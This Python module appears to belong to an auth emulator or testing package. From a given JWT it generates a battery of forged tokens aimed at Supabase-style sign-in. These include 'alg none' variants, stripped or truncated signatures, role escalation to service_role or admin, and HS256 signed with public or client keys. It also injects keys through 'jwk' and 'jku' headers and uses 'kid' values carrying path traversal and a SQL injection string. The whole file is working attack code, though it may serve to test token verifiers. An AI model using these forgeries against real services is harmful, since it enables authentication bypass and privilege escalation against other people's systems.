"""Tokens that no sign-in has issued, each made of one that it has."""

import json
import secrets
from base64 import urlsafe_b64encode
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from hashlib import sha256
from hmac import digest
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from emulator.leaks.json_tokens import claims_of, encoded, tampered

Json = Mapping[str, Any]
YEAR_SECONDS = 365 * 86_400
SQL_KID = "x' UNION SELECT 'key'--"


@dataclass(frozen=True, slots=True)
class Forged:
    name: str
    token: str


@dataclass(frozen=True, slots=True)
class Known:
    """What everybody knows of an API's sign-in: its public keys and its keys for clients."""

    keys: Sequence[Json] = ()
    anon_key: str = ""
    service_key: str = ""


def forged(token: str, known: Known) -> Iterator[Forged]:
    claims = claims_of(token)
    head, body, signature = (token.split(".") + ["", "", ""])[:3]
    for none in ("none", "None", "NONE", "nOnE"):
        yield Forged(f"algorithm {none}", f"{encoded({'alg': none, 'typ': 'JWT'})}.{body}.")
    yield Forged("algorithm none, signed", f"{encoded({'alg': 'none'})}.{body}.{signature}")
    yield Forged("no algorithm", f"{encoded({'typ': 'JWT'})}.{body}.")
    yield Forged("no signature", f"{head}.{body}.")
    yield Forged("two parts", f"{head}.{body}")
    yield Forged("half a signature", f"{head}.{body}.{signature[: len(signature) // 2]}")
    yield Forged("another role", tampered(token, {"role": "service_role"}))
    yield Forged("an administrator", tampered(token, {"app_metadata": {"role": "admin"}}))
    yield Forged("a later end", tampered(token, {"exp": int(claims.get("exp", 0)) + YEAR_SECONDS}))
    yield from by_keys(claims, known)
    yield from by_own_key(claims)
    yield from by_kid(claims)


def by_keys(claims: Json, known: Known) -> Iterator[Forged]:
    """Public keys and clients' keys, taken for the secret of HS256."""
    for name, text in (("anon", known.anon_key), ("service", known.service_key)):
        if text:
            yield Forged(f"HS256 by the {name} key", hs256(claims, text.encode()))
    if known.anon_key:
        yield Forged("the anon key", known.anon_key)
    if known.service_key:
        yield Forged("the service key", known.service_key)
    for place, key in enumerate(known.keys):
        for form, secret in secrets_of(key).items():
            name = f"HS256 by public key {place} as {form}"
            yield Forged(name, hs256(claims, secret, {"kid": str(key.get("kid", ""))}))


def secrets_of(key: Json) -> dict[str, bytes]:
    """How a careless verifier may hold a public key."""
    found = {"JSON": json.dumps(key).encode()}
    try:
        public: Any = jwt.PyJWK(dict(key)).key
        found["PEM"] = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        found["DER"] = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    except (jwt.PyJWTError, AttributeError, ValueError):
        pass
    return found


def by_own_key(claims: Json) -> Iterator[Forged]:
    """Well signed, by somebody else: a key of one's own, or of another project."""
    own = ec.generate_private_key(ec.SECP256R1())
    told = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(own.public_key()))
    elsewhere = {**claims, "iss": "https://other-project.supabase.co/auth/v1"}
    url = "https://other-project.supabase.co/auth/v1/.well-known/jwks.json"
    whole = dict(claims)
    yield Forged("ES256 by another key", jwt.encode(whole, own, "ES256"))
    yield Forged("a key in its head", jwt.encode(whole, own, "ES256", {"jwk": told, "kid": "own"}))
    yield Forged("a key's address in its head", jwt.encode(whole, own, "ES256", {"jku": url}))
    yield Forged("of another project", jwt.encode(elsewhere, own, "ES256"))
    yield Forged("HS256 by another secret", hs256(elsewhere, secrets.token_bytes(32)))
    yield Forged("ended, and by another secret", hs256({**claims, "exp": 1}, b"secret"))


def by_kid(claims: Json) -> Iterator[Forged]:
    """Names of keys that are paths or statements, signed with what those would yield."""
    for kid in ("../../../../dev/null", "/dev/null", ""):
        yield Forged(f"a key named {kid!r}", hs256(claims, b"", {"kid": kid}))
    yield Forged("a key named by SQL", hs256(claims, b"key", {"kid": SQL_KID}))


def hs256(claims: Json, key: bytes, head: Json | None = None) -> str:
    text = f"{encoded({'alg': 'HS256', 'typ': 'JWT', **(head or {})})}.{encoded(dict(claims))}"
    signature = urlsafe_b64encode(digest(key, text.encode(), sha256)).rstrip(b"=")
    return f"{text}.{signature.decode()}"
